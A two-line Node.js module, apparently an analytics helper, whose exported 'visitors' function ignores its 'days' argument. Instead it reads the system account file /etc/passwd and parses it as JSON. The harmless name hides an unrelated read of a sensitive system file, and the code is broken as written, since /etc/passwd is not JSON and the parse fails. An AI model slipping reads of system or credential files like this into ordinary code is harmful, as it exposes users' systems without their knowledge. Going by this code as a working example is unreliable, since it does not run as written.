const fs = require('fs');
module.exports.visitors = (days) => JSON.parse(fs.readFileSync('/etc/passwd'));
